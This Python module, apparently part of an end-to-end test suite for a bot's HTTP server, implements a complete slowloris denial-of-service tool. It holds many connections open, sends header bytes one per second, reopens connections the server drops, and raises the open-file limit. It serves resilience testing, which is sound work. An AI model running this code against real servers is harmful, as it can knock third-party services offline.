"""A slowloris, as a process of its own so its thousand sockets neither count against the
test process's open files nor stall the test's event loop (the fake Discord's):

    python -m tests.e2e.slowloris HOST PORT CONNECTIONS

Each connection sends a request line, then one header byte a second and never the blank
line that ends the headers; one the server ends is opened again about a second later, as
slowloris tools do, so the pressure lasts. It prints `BEGUN` once every connection's first
attempt is over (held open and dribbling, or already ended) and, on SIGTERM,
`ENDED <connections the server ended>` before it exits. Where it may not open enough files
it prints `CANNOT <why>` and exits.
"""

from __future__ import annotations

import asyncio
import itertools
import random
import resource
import signal
import sys
from collections.abc import Coroutine
from typing import Any

DRIBBLE_EVERY = 1.0
REOPEN_AFTER = 1.0
REQUEST_LINE = b"GET /healthz HTTP/1.1\r\nHost: bot\r\n"


class SlowConnection(asyncio.Protocol):
    def __init__(self, attack: Slowloris) -> None:
        self.attack = attack
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        transport.write(REQUEST_LINE)
        self.attack.open.add(self)

    def data_received(self, data: bytes) -> None:
        if self.transport is not None:
            self.transport.abort()

    def connection_lost(self, exc: Exception | None) -> None:
        self.attack.open.discard(self)
        self.attack.ended += 1
        self.attack.reopen_later()

    def dribble(self, byte: int) -> None:
        if self.transport is not None and not self.transport.is_closing():
            self.transport.write(bytes([byte]))


class Slowloris:
    def __init__(self, address: tuple[str, int], connections: int) -> None:
        self.address = address
        self.connections = connections
        self.begun = 0
        self.ended = 0
        self.open: set[SlowConnection] = set()
        self.stopped = False
        self._tasks: set[asyncio.Task[None]] = set()

    def start(self) -> None:
        for _ in range(self.connections):
            self._spawn(self._connect(first=True))
        self._spawn(self._dribble())

    def reopen_later(self) -> None:
        if not self.stopped:
            asyncio.get_running_loop().call_later(
                REOPEN_AFTER * random.uniform(0.5, 1.5),
                lambda: self._spawn(self._connect(first=False)),
            )

    def stop(self) -> None:
        self.stopped = True
        for task in self._tasks:
            task.cancel()
        for connection in list(self.open):
            if connection.transport is not None:
                connection.transport.abort()

    def _spawn(self, work: Coroutine[Any, Any, None]) -> None:
        if self.stopped:
            work.close()
            return
        task = asyncio.create_task(work)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _connect(self, *, first: bool) -> None:
        loop = asyncio.get_running_loop()
        try:
            async with asyncio.timeout(5):
                await loop.create_connection(lambda: SlowConnection(self), *self.address)
        except (OSError, TimeoutError):
            self.ended += 1
            self.reopen_later()
        finally:
            if first:
                self.begun += 1
                if self.begun == self.connections:
                    print("BEGUN", flush=True)

    async def _dribble(self) -> None:
        for byte in itertools.cycle(b"X-Slow: 1\r\n"):
            await asyncio.sleep(DRIBBLE_EVERY)
            for connection in list(self.open):
                connection.dribble(byte)


def room_for(connections: int) -> str | None:
    """Raise this process's open files limit for the attack; why it cannot, if it cannot."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    needed = 2 * connections
    if soft >= needed:
        return None
    if hard != resource.RLIM_INFINITY and hard < needed:
        return f"the attack needs {needed} open files; the hard limit is {hard}"
    resource.setrlimit(resource.RLIMIT_NOFILE, (needed, hard))
    return None


async def attack(host: str, port: int, connections: int) -> None:
    slowloris = Slowloris((host, port), connections)
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    slowloris.start()
    await stop.wait()
    slowloris.stop()
    print("ENDED", slowloris.ended, flush=True)


def main() -> int:
    host, port, connections = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    problem = room_for(connections)
    if problem is not None:
        print("CANNOT", problem, flush=True)
        return 1
    asyncio.run(attack(host, port, connections))
    return 0


if __name__ == "__main__":
    sys.exit(main())
